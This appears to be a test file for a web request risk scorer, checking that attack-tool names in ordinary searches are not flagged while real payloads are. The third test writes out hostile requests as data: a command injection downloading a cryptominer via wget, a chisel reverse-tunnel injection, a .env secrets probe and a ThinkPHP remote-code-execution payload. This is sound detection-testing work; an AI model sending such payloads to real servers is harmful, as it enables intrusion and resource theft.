import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openLocalScorer } from '../../src/score/local.ts';
import { withoutPlainPath, withoutPlainValues } from '../../src/score/plain-words.ts';
import { commandRules } from '../../src/score/rules/commands.ts';
import { webRules } from '../../src/score/rules/web.ts';
import { wireRules } from '../../src/score/rules/wire.ts';
import { ask, request } from '../support/score/events.ts';

const scorer = openLocalScorer({ onWarning: assert.fail });
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const get = (target: string): string =>
  `GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${browser}\r\nAccept: */*\r\n\r\n`;
const judge = (text: string) => scorer.judge(ask(request(text)));

describe('words that rules know', () => {
  it('wake nobody where people only search for them', () => {
    const words = new Set([...commandRules, ...webRules, ...wireRules].flatMap((rule) => rule.words));
    const searched = [...words].map((word) => word.trim()).filter((word) => /^[a-z][a-z0-9 _-]*$/.test(word));
    assert.ok(searched.length > 300);
    const woken: string[] = [];
    for (const word of searched)
      for (const phrase of [word, `best ${word} 2026`, `how to use ${word}`]) {
        const { risk_score, reasons } = judge(get(`/search?q=${phrase.replaceAll(' ', '+')}`));
        if (risk_score >= 8) woken.push(`${phrase}: ${risk_score} ${reasons.join(' ')}`);
      }
    assert.deepEqual(woken, []);
  });

  it('are no tool in use, no command and no bytes in a path, a title or the address somebody came from', () => {
    for (const text of [
      get('/search?q=wood+chisel+set'),
      get('/search?q=seatbelt'),
      get('/search?q=bloodhounds'),
      get('/ring=bloodhounds'),
      get('/wiki/Modbus'),
      get('/blog/how-to-use-busybox'),
      get('/tags/xmrig/'),
      'GET / HTTP/1.1\r\nHost: shop.example\r\nReferer: https://search.example/?q=eternalblue\r\n\r\n',
      'POST /api/posts HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n{"title":"What ngrok is for"}',
    ])
      assert.equal(judge(text).attack_type, 'Normal', text);
  });

  it('count where something is done with them', () => {
    for (const text of [
      get('/?cmd=busybox+wget'),
      get('/search?q=a;wget+http://198.51.100.7/xmrig'),
      'POST /api/posts HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n{"title":"a;chisel client 198.51.100.7:80 R:socks"}',
      get('/.env?q=hello+world'),
      get('/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo'),
    ])
      assert.notEqual(judge(text).attack_type, 'Normal', text);
  });
});

describe('plain words', () => {
  it('are left out, and nothing else is', () => {
    assert.equal(withoutPlainValues('/a?q=how+to%20cook&page=2&b=x;y'), '/a?q=&page=2&b=x;y');
    assert.equal(withoutPlainValues('/a?cmd=rm+me&q=-x+y&q=a../b'), '/a?cmd=rm+me&q=-x+y&q=a../b');
    assert.equal(withoutPlainValues('{"title": "to cook","n":"a;b"}'), '{"title": "","n":"a;b"}');
    assert.equal(withoutPlainValues(`/a?name=${'A'.repeat(60)}`), `/a?name=${'A'.repeat(60)}`);
    assert.equal(
      withoutPlainPath('GET /wiki/Modbus?x=1 HTTP/1.1\r\nA: /b/c d'),
      'GET //?x=1 HTTP/1.1\r\nA: /b/c d',
    );
    assert.equal(withoutPlainPath('GET /a.php/.env HTTP/1.1'), 'GET /a.php/.env HTTP/1.1');
  });
});
